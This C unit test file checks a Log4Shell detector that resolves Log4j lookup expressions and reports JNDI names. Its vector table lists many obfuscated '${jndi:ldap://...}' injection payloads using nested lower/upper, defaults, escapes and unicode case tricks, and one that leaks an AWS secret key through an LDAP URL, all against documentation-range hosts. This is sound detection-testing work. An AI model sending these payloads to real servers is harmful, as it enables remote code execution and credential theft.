/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "detect/lookup.h"
#include "detect/scan.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdlib.h>
#include <cmocka.h>

/* Verdicts are those of the real engine (tests/oracle). */
static const struct {
    const char *note, *text, *names[LOOKUP_MAX_HITS];
} vectors[] = {
    /* clang-format off */
    {"plain", "${jndi:ldap://192.0.2.1:1389/a}", {"ldap://192.0.2.1:1389/a"}},
    {"prefix is caseless", "${JnDi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"scheme keeps its case", "${jndi:LDAP://192.0.2.1/a}", {"LDAP://192.0.2.1/a"}},
    {"text around", "GET /x ${jndi:rmi://192.0.2.1:1099/o} HTTP", {"rmi://192.0.2.1:1099/o"}},
    {"lower, upper", "${${lower:J}n${upper:d}i:${lower:LDAP}://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"lookup names are caseless", "${${LoWeR:J}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"lower of more than one letter", "${${lower:jndi}:${lower:ldap://192.0.2.1/A}}", {"ldap://192.0.2.1/a"}},
    {"nested three deep", "${${lower:${upper:${lower:j}}}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"empty name, default", "${${:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"colon, default", "${${::-j}${::-n}${::-d}${::-i}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"many colons", "${${a:b:c:d:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"unset variable, default", "${${env:NOPE:-j}ndi${env:NOPE:-:}${env:NOPE:-l}dap${env:NOPE:-:}//192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"unknown lookup, default", "${${nope:x:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"default is empty", "${j${x:-}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"lower of nothing", "${j${lower:}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"lookup name from a default", "${${${:-l}ower:J}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"delimiter from a default", "${${a${b:-:}-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"delimiter from lower", "${${a:${lower:-}j}ndi:ldap://192.0.2.1/a}", {}},
    {"first :- counts", "${${a:-j:-x}ndi:ldap://192.0.2.1/a}", {}},
    {":- inside the JNDI name", "${jndi:ldap://192.0.2.1/a:-b}", {"ldap://192.0.2.1/a"}},
    {"escaped delimiter", "${${a:\\-b:-j}ndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"escaped delimiter, no default: key of lower is -J", "${lower:\\-J}", {}},
    {"escaped delimiter in a JNDI name", "${jndi:ldap:\\-x}", {"ldap:-x"}},
    {"date, quoted", "${${date:'jnd'}i:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"date, not quoted", "${${date:j}ndi:ldap://192.0.2.1/a}", {}},
    {"dotless i", "${jnd${upper:\304\261}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"dotless i in the prefix itself", "${jnd\304\261:ldap://192.0.2.1/a}", {}},
    {"dotted capital I, lower gives two characters", "${jnd${lower:\304\260}:ldap://192.0.2.1/a}", {}},
    {"dotted capital I in the prefix itself", "${jnd\304\260:ldap://192.0.2.1/a}", {}},
    {"long s", "${jndi:ldap${lower:${upper:\305\277}}://192.0.2.1/a}", {"ldaps://192.0.2.1/a"}},
    {"sharp s grows", "${jndi:ldap://192.0.2.1/${upper:\303\237}}", {"ldap://192.0.2.1/SS"}},
    {"Kelvin sign", "${jndi:ldap://${lower:\342\204\252}.example.com/a}", {"ldap://k.example.com/a"}},
    {"unresolved stays in the name", "${jndi:ldap://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}}", {"ldap://192.0.2.1/${env:AWS_SECRET_ACCESS_KEY}"}},
    {"unresolved in the host", "${jndi:dns://${env:NOPE}.example.com}", {"dns://${env:NOPE}.example.com"}},
    {"unresolved in the prefix", "${j${nope}ndi:ldap://192.0.2.1/a}", {}},
    {"empty expression in the prefix", "${j${}ndi:ldap://192.0.2.1/a}", {}},
    {"empty expression in the name", "${jndi:ldap://192.0.2.1/${}}", {"ldap://192.0.2.1/${}"}},
    {"in a default", "${x:-${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
    {"in a default that is not needed", "${lower:x:-${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
    {"in a name", "${${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
    {"in another JNDI name", "${jndi:rmi://${jndi:ldap://192.0.2.1/a}/b}", {"ldap://192.0.2.1/a", "rmi://${jndi:ldap://192.0.2.1/a}/b"}},
    {"text only", "${x:-jndi:ldap://192.0.2.1/a}", {}},
    {"text only, lower", "${lower:jndi:ldap://192.0.2.1/a}", {}},
    {"two", "${jndi:ldap://192.0.2.1/a}${jndi:rmi://192.0.2.2/b}", {"ldap://192.0.2.1/a", "rmi://192.0.2.2/b"}},
    {"not closed", "${jndi:ldap://192.0.2.1/a", {}},
    {"inner closed, outer not", "${${lower:j}ndi:ldap://192.0.2.1/a", {}},
    {"one open before", "${ x ${jndi:ldap://192.0.2.1/a}", {}},
    {"one brace too many", "${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
    {"brace in the name ends it", "${jndi:ldap://192.0.2.1/{a}b}", {"ldap://192.0.2.1/{a"}},
    {"escaped", "$${jndi:ldap://192.0.2.1/a}", {}},
    {"escaped, and another ${ to the right", "$${jndi:ldap://192.0.2.1/a} ${x}", {"ldap://192.0.2.1/a"}},
    {"escaped, and another ${ to the left", "${x} $${jndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"escaped twice", "$$${jndi:ldap://192.0.2.1/a}", {}},
    {"escaped twice, two more to the right", "$$${jndi:ldap://192.0.2.1/a} ${x} ${y}", {"ldap://192.0.2.1/a"}},
    {"escaped inside", "${x:-$${jndi:ldap://192.0.2.1/a}}", {"ldap://192.0.2.1/a"}},
    {"escaped inside a name that resolves", "${${lower:j}$${lower:n}di:ldap://192.0.2.1/a}", {}},
    {"dollar made, at the start", "${x:-$}{jndi:ldap://192.0.2.1/a}", {}},
    {"dollar made, after a longer text that shrinks", "${x:-12345678}${x:-$}{jndi:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"dollar made, another ${ to the right", "${x:-$}{jndi:ldap://192.0.2.1/a} ${y}", {"ldap://192.0.2.1/a"}},
    {"brace made", "$${x:-{}jndi:ldap://192.0.2.1/a} ${y}", {}},
    {"cyclic: the message is given up", "${x:-$${x:-y}}${jndi:ldap://192.0.2.1/a}", {}},
    {"cyclic, but behind", "${jndi:ldap://192.0.2.1/a}${x:-$${x:-y}}", {"ldap://192.0.2.1/a"}},
    {"CVE-2021-45105", "${${::-${::-$${::-j}}}}", {}},
    {"unknown java key: the message is given up", "${java:nope}${jndi:ldap://192.0.2.1/a}", {}},
    {"unknown java key behind", "${jndi:ldap://192.0.2.1/a}${java:nope}", {"ldap://192.0.2.1/a"}},
    {"no scheme", "${jndi:foo}", {"foo"}},
    {"java: name", "${jndi:java:comp/env/jdbc/x}", {"java:comp/env/jdbc/x"}},
    {"nothing", "${jndi:}", {""}},
    {"no colon", "${jndi}", {}},
    {"blank before", "${ jndi:ldap://192.0.2.1/a}", {}},
    {"blank after", "${jndi: ldap://192.0.2.1/a}", {" ldap://192.0.2.1/a"}},
    {"line feed inside", "${jndi:ldap://192.0.2.1/\012a}", {"ldap://192.0.2.1/\012a"}},
    {"user and host", "${jndi:ldap://u:p@192.0.2.1/a}", {"ldap://u:p@192.0.2.1/a"}},
    {"fragment host", "${jndi:ldap://127.0.0.1#x.example.com:1389/a}", {"ldap://127.0.0.1#x.example.com:1389/a"}},
    {"IPv6", "${jndi:ldap://[2001:db8::1]:1389/a}", {"ldap://[2001:db8::1]:1389/a"}},
    {"path.separator and file.separator", "${jndi${sys:path.separator}ldap:${sys:file.separator}/192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"java version in the name", "${jndi:ldap://192.0.2.1/${java:version}}", {"ldap://192.0.2.1/${java:version}"}},
    {"percent stays", "${jnd${123%25ff:-i}:ldap://192.0.2.1/a}", {"ldap://192.0.2.1/a"}},
    {"base64 lookup is not there", "${${base64:am5kaQ==}:ldap://192.0.2.1/a}", {}},
    {"wrong bracket", "$(jndi:ldap://192.0.2.1/a)", {}},
    {"doubled brace", "${{jndi:ldap://192.0.2.1/a}}", {}},
    {"shell default that is none", "${JNDI:=ldap://192.0.2.1/a}", {"=ldap://192.0.2.1/a"}},
    {"no dollar", "{jndi:ldap://192.0.2.1/a}", {}},
    {"apart", "$ {jndi:ldap://192.0.2.1/a}", {}},
    {"log4j configuration", "${sys:user.home}/${date:yyyy-MM-dd}/${ctx:id}.log", {}},
    {"nothing at all", "hello", {}},
    {"era is steady", "${jndi:${date:G}}", {"AD"}},
    {"two quotes are one", "${jndi:${date:'a''b'}}", {"a'b"}},
    {"final sigma", "${jndi:${lower:\316\221\316\243}}", {"\316\261\317\202"}},
    {"upper of one letter is two", "${jndi:${upper:\305\211}}", {"\312\274N"}},
    {"another plane keeps its place in the loop", "\360\237\230\200${::-x}$${jndi:ldap://h/x}", {"ldap://h/x"}},
    {"blank in front stays", "${jndi: rmi://h/x}", {" rmi://h/x"}},
    /* clang-format on */
};

static struct config *config;
static struct lookup *lookup;

static int set_up(void **state)
{
    (void)state;
    config = config_new();
    assert_non_null(config);
    lookup = lookup_new(config);
    assert_non_null(lookup);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    lookup_free(lookup);
    config_free(config);
    return 0;
}

static void names_are_log4js(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++) {
        struct lookup_result r;
        unsigned n = 0;

        while (n < LOOKUP_MAX_HITS && vectors[i].names[n])
            n++;
        assert_int_equal(lookup_resolve(lookup, bytes_str(vectors[i].text), &r), n > 0);
        if (r.n_hits != n)
            fail_msg("%s: %u names, not %u", vectors[i].note, r.n_hits, n);
        for (unsigned k = 0; k < n; k++)
            if (!bytes_eq(r.hits[k].name, bytes_str(vectors[i].names[k])))
                fail_msg("%s: name %u is \"%.*s\"", vectors[i].note, k, (int)r.hits[k].name.len,
                         (const char *)r.hits[k].name.p);
    }
}

/* Whatever is cut off, the evaluation reads no byte behind the end. */
static void every_cut_is_safe(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof vectors / sizeof *vectors; i++) {
        struct bytes text = bytes_str(vectors[i].text);

        for (size_t cut = 0; cut <= text.len; cut++) {
            uint8_t *exact = malloc(cut + !cut);
            struct lookup_result r;

            assert_non_null(exact);
            memcpy(exact, text.p, cut);
            lookup_resolve(lookup, bytes_of(exact, cut), &r);
            for (unsigned k = 0; k < r.n_hits; k++)
                assert_true(r.hits[k].from <= r.hits[k].to && r.hits[k].to <= cut);
            free(exact);
        }
    }
}

static unsigned techniques_of(const char *text)
{
    struct lookup_result r;

    assert_true(lookup_resolve(lookup, bytes_str(text), &r));
    return r.hits[0].techniques;
}

static void techniques_are_told(void **state)
{
    (void)state;
    assert_int_equal(techniques_of("${jndi:ldap://h/a}"), 0);
    assert_int_equal(techniques_of("${JNDI:ldap://h/a}"), LOOKUP_PREFIX_CASE);
    assert_int_equal(techniques_of("${${lower:j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_LOWER);
    assert_int_equal(techniques_of("${${::-j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DEFAULT);
    assert_int_equal(techniques_of("${${env:X:-j}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DEFAULT | LOOKUP_ENV);
    assert_int_equal(techniques_of("${${date:'j'}ndi:ldap://h/a}"), LOOKUP_NESTED | LOOKUP_DATE);
    assert_int_equal(techniques_of("${jnd${upper:\xc4\xb1}:ldap://h/a}"),
                     LOOKUP_NESTED | LOOKUP_UPPER | LOOKUP_UNICODE_CASE | LOOKUP_PREFIX_CASE);
    assert_true(techniques_of("$${jndi:ldap://h/a} ${x}") & LOOKUP_MULTI_PASS);
    assert_true(techniques_of("$${jndi:ldap://h/a} ${x}") & LOOKUP_ESCAPE);
    assert_true(techniques_of("${jndi:ldap:\\-x}") & LOOKUP_DELIMITER);
    assert_string_equal(lookup_versions(LOOKUP_LOWER), "2.13.0-2.14.1");
    assert_string_equal(lookup_versions(LOOKUP_PREFIX_CASE), "2.8-2.14.1");
    assert_string_equal(lookup_versions(LOOKUP_DELIMITER | LOOKUP_LOWER), "2.13.1-2.14.1");
    assert_string_equal(lookup_versions(0), "2.0-2.14.1");
}

static void the_slice_is_the_expression(void **state)
{
    struct bytes text = BYTES_LIT("caf\303\251 ${lower:ABC} ${jndi:ldap://h/a} end");
    struct lookup_result r;

    (void)state;
    assert_true(lookup_resolve(lookup, text, &r));
    text = bytes_slice(text, r.hits[0].from, r.hits[0].to);
    assert_true(bytes_eq(text, BYTES_LIT("${jndi:ldap://h/a}")));
}

static uint8_t *repeated(const char *unit, size_t n, size_t *len)
{
    size_t unit_len = strlen(unit);
    uint8_t *text = malloc(n * unit_len + 1);

    assert_non_null(text);
    for (size_t i = 0; i < n; i++)
        memcpy(text + i * unit_len, unit, unit_len);
    *len = n * unit_len;
    return text;
}

/* What would never end, or cost more than a constant per byte, ends and says so. */
static void budgets_are_told(void **state)
{
    static const char *const units[] = {"${lower:", "${", "$${a:-$}", "${::-$}{", "$$${x}", "${a:-${b:-c}}"};
    struct lookup_result r;

    (void)state;
    for (size_t i = 0; i < sizeof units / sizeof *units; i++) {
        size_t len;
        uint8_t *text = repeated(units[i], 65000 / strlen(units[i]), &len);

        lookup_resolve(lookup, bytes_of(text, len), &r);
        free(text);
    }
    {
        size_t len;
        uint8_t *open = repeated("${lower:", 60, &len);
        struct buf whole = buf_within(4096);

        buf_add(&whole, bytes_of(open, len));
        buf_add_str(&whole, "x");
        for (unsigned i = 0; i < 60; i++)
            buf_add_byte(&whole, '}');
        assert_false(lookup_resolve(lookup, buf_bytes(&whole), &r));
        assert_true(r.spent);
        buf_drop(&whole);
        free(open);
    }
    {
        size_t len;
        uint8_t *long_text = repeated("x", 70000, &len);

        lookup_resolve(lookup, bytes_of(long_text, len), &r);
        assert_true(r.spent);
        free(long_text);
    }
}

static void more_names_than_fit_are_told(void **state)
{
    struct buf text = buf_within(4096);
    struct lookup_result r;

    (void)state;
    for (unsigned i = 0; i < LOOKUP_MAX_HITS + 2; i++)
        buf_addf(&text, "${jndi:ldap://h/%u}", i);
    assert_true(lookup_resolve(lookup, buf_bytes(&text), &r));
    assert_int_equal(r.n_hits, LOOKUP_MAX_HITS);
    assert_true(r.cut);
    buf_drop(&text);
}

/* The prefilter must not miss what the resolver would report: random texts of the pieces that lookups are made of. */
static void the_trigger_misses_nothing(void **state)
{
    static const char *const words[] = {"jndi:", "jn", "di", "${", "${", "${", "}", "}", "$", "$$", "{", ":", ":-", "::-",
                                        "lower:", "upper:", "x", "ldap://h/a", "env:A", "date:'j'", "\xc4\xb1", " "};
    struct complaint why = {{0}};
    struct scan *scan = scan_new(&why);
    unsigned seed = 4711, n_hits = 0;

    (void)state;
    assert_non_null(scan);
    for (unsigned round = 0; round < 60000; round++) {
        struct buf text = buf_within(1024);
        struct lookup_result r;
        unsigned n = 1;

        for (unsigned i = 0; i < n; i++) {
            seed = seed * 1103515245u + 12345u;
            if (i == 0)
                n = 2 + (seed >> 16) % 20;
            buf_add_str(&text, words[(seed >> 8) % (sizeof words / sizeof *words)]);
        }
        if (lookup_resolve(lookup, buf_bytes(&text), &r)) {
            n_hits++;
            if (!(scan_block(scan, buf_bytes(&text)) & SCAN_HIT))
                fail_msg("missed: %.*s", (int)text.len, (const char *)text.p);
        }
        buf_drop(&text);
    }
    assert_true(n_hits > 500);
    scan_free(scan);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(names_are_log4js),
        cmocka_unit_test(every_cut_is_safe),
        cmocka_unit_test(techniques_are_told),
        cmocka_unit_test(the_slice_is_the_expression),
        cmocka_unit_test(budgets_are_told),
        cmocka_unit_test(more_names_than_fit_are_told),
        cmocka_unit_test(the_trigger_misses_nothing),
    };

    return cmocka_run_group_tests(tests, set_up, tear_down);
}
